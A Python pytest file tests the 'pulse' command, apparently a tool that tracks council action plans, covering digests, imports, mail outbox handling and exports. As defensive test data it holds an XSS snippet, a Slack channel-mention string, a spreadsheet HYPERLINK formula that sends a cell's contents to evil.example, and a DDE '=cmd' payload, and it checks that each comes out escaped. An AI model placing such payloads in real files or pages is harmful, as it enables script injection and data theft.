"""The `pulse` command as an admin runs it: a fresh folder, the environment, the real binary."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import EXAMPLES, FIXTURES

PULSE = Path(sys.executable).with_name("pulse")
PLANS = FIXTURES / "plans"


def environment(tmp: Path, **extra: str) -> dict[str, str]:
    """The environment of a fresh admin shell: local mode, a database in `tmp`."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "SMTP_", "IMAP_"))}
    env.update(
        PULSE_DATA_DIR=str(tmp / "var"),
        DATABASE_URL=f"sqlite+aiosqlite:///{tmp / 'var' / 'pulse.db'}",
        METRICS_PORT="0",  # any free port: tests and other runs on the machine never collide
    )
    env.update(extra)
    return env


def pulse_env(
    tmp: Path, extra: dict[str, str], *args: str | Path
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(PULSE), *map(str, args)],
        cwd=tmp,
        env=environment(tmp, **extra),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def pulse(
    tmp: Path, *args: str | Path, db_url: str | None = None
) -> subprocess.CompletedProcess[str]:
    return pulse_env(tmp, {"DATABASE_URL": db_url} if db_url else {}, *args)


def import_small(tmp: Path, db_url: str | None = None) -> subprocess.CompletedProcess[str]:
    return pulse(
        tmp,
        "import",
        PLANS / "small-plan.csv",
        "--people",
        PLANS / "small-people.csv",
        "--networks",
        PLANS / "small-networks.csv",
        "--plan",
        "small",
        "--ratings-as-of",
        "2026-11-16",
        db_url=db_url,
    )


NAMES = {
    "AW": "Alex Walker",
    "MC": "Morgan Clarke",
    "DC": "Dana Cole",
    "PB": "Priya Bains",
    "GR": "Gwen Roberts",
    "SMu": "Sam Murray",
}


def item(
    ref: str,
    title: str,
    leads: list[str],
    due: str | None,
    *,
    days_overdue: int = 0,
    rating: int | None = None,
    note: str | None = None,
    updated: str | None = None,
    revised_due: str | None = None,
    needs_support: bool = False,
    reasons: list[str] | None = None,
    evidence: str | None = None,
) -> dict[str, Any]:
    return {
        "ref": ref,
        "title": title,
        "leads": leads,
        "lead_names": [NAMES[key] for key in leads],
        "due": due,
        "days_overdue": days_overdue,
        "rating": rating,
        "note": note,
        "updated": updated,
        "revised_due": revised_due,
        "needs_support": needs_support,
        "reasons": reasons or [],
        "evidence": evidence,  # evidence of impact, added to §12: none recorded in this plan
    }


OVERDUE_1_1 = item(
    "1.1",
    "Family hubs blueprint",
    ["AW", "MC"],
    "2026-10-31",
    days_overdue=20,
    rating=3,
    note="Drafting with partners",
    updated="2026-11-16",
)
AT_RISK_1_2_1 = item(
    "1.2-1",
    "Training needs analysis",
    ["DC", "PB"],
    "2026-11-30",
    rating=4,
    updated="2026-11-16",
    reasons=["not_started"],
)
AT_RISK_1_2_2 = item(
    "1.2-2",
    "Programme commissioned",
    ["DC", "PB"],
    "2026-12-31",
    rating=4,
    updated="2026-11-16",
    reasons=["not_started"],
)
AT_RISK_2_4 = item("2.4", "Recruitment microsite", ["PB"], "2026-12-31", reasons=["never_rated"])
DUE_SOON_2_3 = item(
    "2.3",
    "Exit interview analysis",
    ["AW"],
    "2026-11-30",
    rating=2,
    note="Needs <script>alert(1)</script> and <!channel> **now**",
    updated="2026-11-16",
)
ACHIEVED_2_2 = item(
    "2.2",
    "Agency rate dashboard",
    ["MC"],
    "2026-12-31",
    rating=1,
    note="Q3 dashboard published",
    updated="2026-11-16",
)


def expected(network: str, **sections: list[dict[str, Any]]) -> dict[str, Any]:
    body = {
        name: sections.get(name, [])
        for name in ("overdue", "at_risk", "needs_support", "due_soon", "achieved")
    }
    counts = {name: len(items) for name, items in body.items()} | {"awaiting": 0}
    return {
        "plan": "small",
        "network": network,
        "as_of": "2026-11-20",
        "period": "2026-W47",
        "counts": counts,
        **body,
        "awaiting": [],
    }


def test_digest_json_matches_a_hand_reading_of_the_plan(tmp_path: Path) -> None:
    """For a plan read by hand on 20 Nov 2026, `pulse digest --format json` gives exactly
    the sections, order and fields of DESIGN.md §12 for every network."""
    imported = import_small(tmp_path)
    assert imported.returncode == 0, imported.stderr
    out = pulse(tmp_path, "digest", "--plan", "small", "--as-of", "2026-11-20", "--format", "json")
    assert out.returncode == 0, out.stderr
    digests = {d["network"]: d for d in json.loads(out.stdout)}
    assert digests["oversight"] == expected(
        "oversight",
        overdue=[OVERDUE_1_1],
        at_risk=[AT_RISK_1_2_1, AT_RISK_1_2_2, AT_RISK_2_4],
        due_soon=[DUE_SOON_2_3],
        achieved=[ACHIEVED_2_2],
    )
    assert digests["early-help"] == expected(
        "early-help", overdue=[OVERDUE_1_1], at_risk=[AT_RISK_1_2_1, AT_RISK_1_2_2]
    )
    assert digests["workforce"] == expected(
        "workforce",
        at_risk=[AT_RISK_1_2_1, AT_RISK_1_2_2, AT_RISK_2_4],
        due_soon=[DUE_SOON_2_3],
        achieved=[ACHIEVED_2_2],
    )
    one = pulse(
        tmp_path, "digest", "--plan", "small", "--network", "early-help", "--as-of", "20/11/2026"
    )
    assert json.loads(one.stdout) == digests["early-help"]


def test_status_table_lists_every_milestone_with_reasons(tmp_path: Path) -> None:
    """`pulse status` shows each milestone's status, due date and reasons."""
    assert import_small(tmp_path).returncode == 0
    out = pulse(tmp_path, "status", "--plan", "small", "--as-of", "2026-11-20")
    assert out.returncode == 0, out.stderr
    lines = {line.split()[0]: line for line in out.stdout.splitlines()[1:]}
    assert set(lines) == {"1.1", "1.2-1", "1.2-2", "1.2-3", "2.1", "2.2", "2.3", "2.4"}
    assert "overdue (20d)" in lines["1.1"]
    assert "at_risk" in lines["1.2-1"]
    assert "not_started" in lines["1.2-1"]
    assert "on_track" in lines["1.2-3"]
    assert "no_date" in lines["2.1"]
    assert "GR/SMu" in lines["2.1"]


def test_markdown_digest_escapes_what_leads_wrote(tmp_path: Path) -> None:
    """A note's markup and HTML come out inert in the Markdown digest."""
    assert import_small(tmp_path).returncode == 0
    out = pulse(
        tmp_path,
        "digest",
        "--plan",
        "small",
        "--network",
        "workforce",
        "--as-of",
        "2026-11-20",
        "--format",
        "md",
    )
    assert out.returncode == 0, out.stderr
    assert "<script>" not in out.stdout
    assert "**now**" not in out.stdout
    assert r"\<script\>" in out.stdout
    assert "## Due in the next 14 days (1)" in out.stdout


def test_bad_import_exits_nonzero_lists_problems_and_changes_nothing(tmp_path: Path) -> None:
    """A plan with an impossible date and an unknown lead fails with both reported by row and
    column, and the digest afterwards is what it was before."""
    assert import_small(tmp_path).returncode == 0
    before = pulse(tmp_path, "digest", "--plan", "small", "--as-of", "2026-11-20").stdout
    bad = tmp_path / "bad.csv"
    text = (PLANS / "small-plan.csv").read_text(encoding="utf-8")
    bad.write_text(
        text.replace("31/10/26", "31/09/26").replace("GR / S Murray", "GR / Q Nobody"),
        encoding="utf-8",
    )
    out = pulse(
        tmp_path,
        "import",
        bad,
        "--people",
        PLANS / "small-people.csv",
        "--networks",
        PLANS / "small-networks.csv",
        "--plan",
        "small",
    )
    assert out.returncode == 1
    assert "nothing was imported" in out.stderr
    assert "row 2, column 'Timescales': value '31/09/26'" in out.stderr
    assert "row 4, column 'Lead(s)'" in out.stderr
    assert "Q Nobody" in out.stderr
    after = pulse(tmp_path, "digest", "--plan", "small", "--as-of", "2026-11-20").stdout
    assert after == before


def test_unknown_plan_and_bad_date_get_clear_errors(tmp_path: Path) -> None:
    """Asking for a plan that is not there, or an impossible --as-of, says so plainly."""
    assert pulse(tmp_path, "init").returncode == 0
    missing = pulse(tmp_path, "status", "--plan", "nope")
    assert missing.returncode == 1
    assert "no plan with key 'nope'" in missing.stderr
    assert "Traceback" not in missing.stderr
    bad_day = pulse(tmp_path, "digest", "--plan", "nope", "--as-of", "31/02/2026")
    flat = " ".join(bad_day.stderr.replace("│", " ").split())
    assert bad_day.returncode == 2
    assert "February 2026 has 28 days" in flat


def test_readme_quick_start_runs(tmp_path: Path) -> None:
    """The sample plan of the README imports from YAML and gives a digest for every network."""
    out = pulse(
        tmp_path, "import", EXAMPLES / "wirral" / "plan.yaml", "--ratings-as-of", "2018-04-16"
    )
    assert out.returncode == 0, out.stderr
    digest = pulse(tmp_path, "digest", "--plan", "wirral", "--as-of", "2018-06-01")
    networks = [d["network"] for d in json.loads(digest.stdout)]
    assert networks == ["board", "ws1", "ws2", "ws3", "ws4", "ws5"]


@pytest.mark.postgres
def test_cli_works_on_postgresql(tmp_path: Path, db_url: str) -> None:
    """The same import and digest work through DATABASE_URL on SQLite and PostgreSQL."""
    assert import_small(tmp_path, db_url).returncode == 0
    out = pulse(
        tmp_path,
        "digest",
        "--plan",
        "small",
        "--network",
        "oversight",
        "--as-of",
        "2026-11-20",
        db_url=db_url,
    )
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["counts"]["at_risk"] == 3


def test_demo_runs_a_whole_week_and_writes_the_digest(tmp_path: Path) -> None:
    """`pulse demo` prompts, takes replies, reminds, posts digests and writes the HTML."""
    out = pulse(tmp_path, "demo")
    assert out.returncode == 0, out.stderr
    assert "10 prompts sent" in out.stdout
    assert "reminders to leads still silent" in out.stdout
    assert "digests posted: 6 networks" in out.stdout
    html = next((tmp_path / "var" / "demo").glob("digest-board-*.html"))
    assert "Picture of progress" in html.read_text(encoding="utf-8")
    outbox = tmp_path / "var" / "demo" / "mail" / "outbox"
    assert len(list(outbox.glob("*-confirmation.eml"))) == 4
    assert not list(outbox.glob("*out-of-office*"))


def test_export_and_html_digest_from_the_command_line(tmp_path: Path) -> None:
    """`pulse export` writes the board's spreadsheet, and the HTML digest is a whole page."""
    assert import_small(tmp_path).returncode == 0
    exported = pulse(
        tmp_path, "export", "--plan", "small", "--format", "xlsx", "--as-of", "2026-11-20"
    )
    assert exported.returncode == 0, exported.stderr
    assert (tmp_path / "var" / "exports" / "small-2026-11-20.xlsx").exists()
    html = pulse(
        tmp_path,
        "digest",
        "--plan",
        "small",
        "--network",
        "workforce",
        "--as-of",
        "2026-11-20",
        "--format",
        "html",
    )
    assert html.stdout.startswith("<!DOCTYPE html>")
    assert "&lt;script&gt;" in html.stdout
    posted = pulse(tmp_path, "digest", "--plan", "small", "--post", "--as-of", "2026-11-20")
    assert "oversight 2026-W47: 2 messages enqueued" in posted.stdout
    again = pulse(tmp_path, "digest", "--plan", "small", "--post", "--as-of", "2026-11-20")
    assert "oversight 2026-W47: already posted" in again.stdout


def test_check_reports_each_part_and_fails_when_one_is_down(tmp_path: Path) -> None:
    """`pulse check` says ok for a reachable SMTP server and FAIL, exiting 1, when the
    configured one cannot be reached."""
    from aiosmtpd.controller import Controller

    from tests.postgres import free_port

    class Sink:
        async def handle_DATA(self, server: object, session: object, envelope: object) -> str:
            return "250 OK"

    port = free_port()
    controller = Controller(Sink(), hostname="127.0.0.1", port=port)
    controller.start()
    try:
        env = {
            "SMTP_HOST": "127.0.0.1",
            "SMTP_PORT": str(port),
            "SMTP_TLS": "none",
            "PULSE_SECRET_KEY": "Vq3xN8r2LmT7pZs1Kd6Wf0Hj4Yc9Ba5E",
        }
        good = pulse_env(tmp_path, env, "check")
        dead = pulse_env(tmp_path, env | {"SMTP_PORT": str(free_port())}, "check")
    finally:
        controller.stop()
    assert good.returncode == 0, good.stdout + good.stderr
    assert "ok   SMTP: connected to 127.0.0.1" in good.stdout
    assert dead.returncode == 1
    assert "FAIL SMTP:" in dead.stdout


def test_env_example_copied_as_is_runs_in_local_mode(tmp_path: Path) -> None:
    """An admin who copies `.env.example` to `.env` unchanged gets a working local mode."""
    from tests.conftest import REPO

    (tmp_path / ".env").write_text((REPO / ".env.example").read_text(encoding="utf-8"))
    env = {
        k: v
        for k, v in environment(tmp_path).items()
        if k not in ("DATABASE_URL", "PULSE_DATA_DIR")
    }
    out = subprocess.run(
        [str(PULSE), "check"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert out.returncode == 0, out.stdout + out.stderr
    assert "ok   local mode" in out.stdout


class _AwkwardServer:
    """An aiosmtpd handler that refuses Morgan for good (550) and hangs up on Alex after the
    final dot, so one prompt fails and one may or may not have gone."""

    async def handle_RCPT(
        self, server: Any, session: Any, envelope: Any, address: str, options: list[str]
    ) -> str:
        if address.startswith("morgan"):
            return "550 5.1.1 mailbox unavailable"
        envelope.rcpt_tos.append(address)
        return "250 OK"

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:
        if any(a.startswith("alex") for a in envelope.rcpt_tos):
            server.transport.close()
            await asyncio.Event().wait()
        return "250 OK queued"


def test_outbox_lists_failed_and_unknown_mail_and_an_admin_settles_them(tmp_path: Path) -> None:
    """Mail refused for good and mail cut off after its final dot are listed by `pulse
    outbox` with recipient, kind, when and why, counted in `pulse status`, and an admin
    sends one again or records it as sent; a wrong id gets one clear line."""
    from aiosmtpd.controller import Controller

    from tests.postgres import free_port

    assert import_small(tmp_path).returncode == 0
    controller = Controller(_AwkwardServer(), hostname="127.0.0.1", port=free_port())
    controller.start()
    try:
        smtp = {
            "SMTP_HOST": "127.0.0.1",
            "SMTP_PORT": str(controller.port),
            "SMTP_TLS": "none",
            "MAIL_FROM": "Plan Pulse <pulse@council.example>",
            "PULSE_SECRET_KEY": "k3J9vQ2xL8mN4pR7sT1wY6zA0bC5dE2fG",
        }
        run = pulse_env(tmp_path, smtp, "run", "--once", "--now", "2026-11-23T09:05:00Z")
        assert run.returncode == 0, run.stderr
    finally:
        controller.stop()
    listed = pulse(tmp_path, "outbox")
    assert listed.returncode == 0, listed.stderr
    lines = listed.stdout.splitlines()
    assert lines[0].split() == ["ID", "STATE", "KIND", "CHANNEL", "RECIPIENT", "WHEN", "WHY"]
    failed = next(line for line in lines if "morgan.clarke@" in line)
    review = next(line for line in lines if "alex.walker@" in line)
    assert " failed " in failed
    assert "2026-11-23 09:05" in failed
    assert "550 5.1.1 mailbox unavailable" in failed
    assert " needs review " in review
    assert "no reply after the end of DATA" in review
    assert len(lines) == 3
    status = pulse(tmp_path, "status", "--plan", "small")
    assert "outbox: 1 failed, 1 need review (see `pulse outbox`)" in status.stdout
    failed_id, review_id = failed.split()[0], review.split()[0]
    retried = pulse(tmp_path, "outbox", "retry", failed_id)
    assert retried.returncode == 0, retried.stderr
    assert "will be sent again" in retried.stdout
    resolved = pulse(tmp_path, "outbox", "resolve", review_id, "--sent")
    assert resolved.returncode == 0, resolved.stderr
    assert "recorded as sent" in resolved.stdout
    assert pulse(tmp_path, "outbox").stdout.strip() == (
        "No outbox message has failed or needs review."
    )
    again = pulse(tmp_path, "outbox", "resolve", review_id, "--not-sent")
    assert again.returncode == 1
    assert again.stderr.strip() == (
        f"error: outbox message {review_id} is sent, not failed or waiting for review: "
        "nothing to do"
    )
    missing = pulse(tmp_path, "outbox", "retry", "9999")
    assert missing.returncode == 1
    assert missing.stderr.strip() == "error: there is no outbox message 9999"
    no_flag = pulse(tmp_path, "outbox", "resolve", review_id)
    assert no_flag.returncode == 2
    assert "--sent or --not-sent" in no_flag.stderr


def _summary(out: subprocess.CompletedProcess[str]) -> str:
    assert out.returncode == 0, out.stderr
    return out.stdout.splitlines()[0]


@pytest.mark.postgres
def test_people_file_without_emails_is_refused_naming_it(tmp_path: Path, db_url: str) -> None:
    """`pulse import` with a people file that has no email column fails naming that file,
    and the addresses already stored stay: the same import with the right file changes no
    one."""
    assert import_small(tmp_path, db_url).returncode == 0
    lines = (PLANS / "small-people.csv").read_text(encoding="utf-8").splitlines()
    no_email = tmp_path / "no-email.csv"
    no_email.write_text(
        "\n".join(",".join(line.split(",")[:2]) for line in lines) + "\n", encoding="utf-8"
    )
    args: list[str | Path] = ["import", PLANS / "small-plan.csv", "--plan", "small"]
    out = pulse(tmp_path, *args, "--people", no_email, db_url=db_url)
    assert out.returncode == 1
    assert out.stderr.startswith(f"{no_email}: 1 problem(s); nothing was imported")
    assert "no 'email' column" in out.stderr
    assert "Traceback" not in out.stderr
    again = pulse(tmp_path, *args, "--people", PLANS / "small-people.csv", db_url=db_url)
    assert "people +0 ~0" in _summary(again)


@pytest.mark.postgres
def test_export_of_formula_notes_reimports_with_no_change(tmp_path: Path, db_url: str) -> None:
    """Notes that a spreadsheet would run as formulas come out of `pulse export` as text in
    both formats, and importing either export changes nothing and records nothing."""
    hostile = '"=HYPERLINK(""http://evil.example/""&C2,""Details"")"'
    text = (PLANS / "small-plan.csv").read_text(encoding="utf-8")
    plan = tmp_path / "plan.csv"
    plan.write_text(
        text.replace("Drafting with partners", hostile).replace(
            "Q3 dashboard published", "=cmd|' /C calc'!A0"
        ),
        encoding="utf-8",
    )
    common: list[str | Path] = [
        "--people",
        PLANS / "small-people.csv",
        "--networks",
        PLANS / "small-networks.csv",
    ]
    first = pulse(
        tmp_path,
        "import",
        plan,
        "--plan",
        "small",
        *common,
        "--ratings-as-of",
        "2026-11-16",
        db_url=db_url,
    )
    assert "ratings recorded 6" in _summary(first)
    for fmt in ("csv", "xlsx"):
        exported = tmp_path / f"board.{fmt}"
        out = pulse(
            tmp_path, "export", "--plan", "small", "--format", fmt, "-o", exported, db_url=db_url
        )
        assert out.returncode == 0, out.stderr
        again = _summary(pulse(tmp_path, "import", exported, "--plan", "small", db_url=db_url))
        assert "actions +0 ~0 retired 0; milestones +0 ~0 retired 0" in again
        assert "ratings recorded 0" in again
    csv_text = (tmp_path / "board.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in csv_text
    digest = pulse(tmp_path, "digest", "--plan", "small", "--as-of", "2026-11-20", db_url=db_url)
    notes = {
        item["note"]
        for d in json.loads(digest.stdout)
        for name in ("overdue", "achieved")
        for item in d[name]
    }
    assert notes == {'=HYPERLINK("http://evil.example/"&C2,"Details")', "=cmd|' /C calc'!A0"}


@pytest.mark.postgres
def test_nul_character_in_a_plan_is_one_line_naming_the_cell(tmp_path: Path, db_url: str) -> None:
    """A NUL character in a plan cell, which PostgreSQL cannot store, is refused with one line
    naming its row and column, and nothing is imported."""
    text = (PLANS / "small-plan.csv").read_text(encoding="utf-8")
    plan = tmp_path / "plan.csv"
    plan.write_text(text.replace("Drafting with", "Drafting\x00with"), encoding="utf-8")
    common: list[str | Path] = [
        "--people",
        PLANS / "small-people.csv",
        "--networks",
        PLANS / "small-networks.csv",
    ]
    out = pulse(tmp_path, "import", plan, "--plan", "small", *common, db_url=db_url)
    assert out.returncode == 1
    assert out.stderr.splitlines() == [
        f"{plan}: 1 problem(s); nothing was imported",
        "  error: row 2, column 'Notes': holds a NUL character, which cannot be stored: remove it",
    ]
    assert pulse(tmp_path, "status", "--plan", "small", db_url=db_url).returncode == 1
